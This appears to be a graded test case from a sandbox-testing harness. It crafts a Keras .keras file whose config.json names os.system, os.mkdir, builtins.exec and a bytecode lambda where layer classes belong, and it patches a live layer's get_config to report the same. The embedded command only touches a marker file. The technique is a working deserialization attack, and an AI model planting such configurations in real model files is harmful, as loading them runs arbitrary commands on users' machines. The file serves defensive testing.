# what: keeps a .keras file whose configuration names functions of the operating system in the place of classes
# on: network
# status: graded
# stopped by: files are loaded inside the sandbox alone; what its configuration says is never deserialised outside
# %% [model]
import json
import zipfile

import keras

target = "@COURSE@/nbassay-attack-config"
model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1, name="inner")])
# %% [train]
model.save("plain.keras")
system = {"module": "os", "class_name": "system", "registered_name": None, "config": f"touch {target}"}
function = {"class_name": "function", "config": "mkdir", "module": "os", "registered_name": "mkdir"}
bound = {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None, "closure": None}}
with zipfile.ZipFile("plain.keras") as plain, zipfile.ZipFile("kept.keras", "w") as kept:
    for name in plain.namelist():
        content = plain.read(name)
        if name == "config.json":
            config = json.loads(content)
            dense = config["config"]["layers"][1]["config"]
            dense |= {"activation": function, "kernel_initializer": system, "bias_regularizer": bound}
            config["config"]["layers"].append(system)
            config |= {"module": "builtins", "class_name": "exec", "registered_name": "os>system"}
            content = json.dumps(config)
        kept.writestr(name, content)
# The live model says the same of itself.
layer = model.layers[0]
honest = layer.get_config()
layer.get_config = lambda: honest | {
    "activation": function, "kernel_initializer": system, "units": "16", "dtype": system,
    "module": "os", "class_name": "system",
}
# %% [scores]
print(json.dumps(model.get_config())[:300])
